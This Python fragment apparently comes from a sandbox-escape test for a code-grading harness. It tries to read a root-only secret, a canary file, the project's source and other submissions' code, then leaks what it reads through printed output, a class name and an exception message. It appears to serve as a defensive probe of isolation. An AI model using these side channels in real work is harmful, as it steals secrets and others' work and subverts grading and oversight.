# Reading what is not its own (a root-only file, the other submissions' copies, the
# project's source) and smuggling it out in its name, its printing and its error messages.
import glob as _glob

_STOLEN = []


def _steal(path):
    with open(path, "rb") as handle:
        _STOLEN.append(handle.read(2000).decode("utf-8", "replace"))


attempt("read the root-only secret", lambda: _steal(T["secret"]))
attempt("read the canary", lambda: _steal(T["canary"]))
attempt("read the project's source", lambda: _steal(T["project_file"]))
for _path in _glob.glob(_os.path.join(T["marker"], "microgpt-grade-*", "code", "**", "*.py"), recursive=True):
    if not _path.startswith(_os.path.dirname(_os.path.abspath(__file__))):
        attempt(f"read another submission ({_path})", lambda: _steal(_path))
_LOOT = " | ".join(_STOLEN)
print("LOOT:", _LOOT)


class Backend(GoodBackend):
    name = "thief " + _LOOT[:500]

    def build_tokenizer(self, docs):
        if _LOOT:
            raise ValueError("LOOT: " + _LOOT)
        return super().build_tokenizer(docs)
